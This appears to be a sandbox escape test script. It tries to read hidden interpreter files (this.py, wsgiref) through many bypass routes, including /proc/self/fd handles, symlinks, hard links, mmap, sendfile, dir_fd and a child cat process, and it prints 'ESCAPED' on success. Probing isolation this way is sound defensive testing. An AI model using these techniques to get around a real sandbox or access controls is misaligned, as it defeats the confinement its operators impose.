# NAME: hidden_data
# ATTEMPTS: read what the sandbox was told to hide in the interpreter (this.py, the folder wsgiref): by every name, through links, descriptors, /proc, its compiled form, a child, the memory of this process
# DETECT: stdout
import ctypes, gc, glob, mmap, os, subprocess, sys
def win(x): print("ESCAPED", x, flush=True)
libc = ctypes.CDLL(None, use_errno=True)
roots = {*sys.path, sys.prefix, sys.base_prefix, os.path.realpath(sys.prefix), os.path.realpath(sys.base_prefix), "/usr"}
libs = {f"{r}/{l}/python{sys.version_info[0]}.{sys.version_info[1]}" for r in roots for l in ("lib", "lib64")} | set(sys.path)
files = {f"{l}/this.py" for l in libs} | {p for l in libs for p in glob.glob(f"{l}/__pycache__/this.*.pyc")} | {f"{l}/wsgiref/{n}" for l in libs for n in ("handlers.py", "util.py", "__pycache__/util.cpython-311.pyc")}
files |= {"/proc/self/root" + f for f in files}
marks = (b"rot13", b"Gur Mra", b"FileWrapper", b"BaseHandler")
def told(data, how):
    if any(m in data for m in marks): win(how)
for f in sorted(files):
    for how, read in {
        "open": lambda: open(f, "rb").read(),
        "mmap": lambda: mmap.mmap(os.open(f, os.O_RDONLY), 0, prot=mmap.PROT_READ)[:],
        "path handle": lambda: open(f"/proc/self/fd/{os.open(f, os.O_PATH)}", "rb").read(),
        "relative": lambda: (os.chdir(os.path.dirname(f)), open(os.path.basename(f), "rb").read())[1],
        "folder handle": lambda: os.read(os.open(os.path.basename(f), os.O_RDONLY, dir_fd=os.open(os.path.dirname(f), os.O_RDONLY)), 4096),
        "symlink": lambda: (os.path.lexists("/workspace/l") and os.unlink("/workspace/l"), os.symlink(f, "/workspace/l"), open("/workspace/l", "rb").read())[2],
        "hard link": lambda: (os.link(f, f"{os.environ['HOME']}/h"), open(f"{os.environ['HOME']}/h", "rb").read())[1],
        "sendfile": lambda: (os.sendfile(os.open("copy", os.O_RDWR | os.O_CREAT), os.open(f, os.O_RDONLY), 0, 4096), open("copy", "rb").read())[1],
    }.items():
        try: told(read() or b"", f"{how} {f}")
        except (OSError, ValueError): pass
for l in libs:
    try: told(subprocess.run(["/bin/cat", f"{l}/this.py", f"{l}/wsgiref/util.py"], capture_output=True).stdout, "child")
    except OSError: pass
for name in ("this", "wsgiref.util", "wsgiref.handlers"):
    try:
        module = __import__(name, fromlist=["x"])
        if getattr(module, "d", None) or getattr(module, "FileWrapper", None) or getattr(module, "BaseHandler", None): win("import " + name)
    except Exception as e: print(name, type(e).__name__, e)
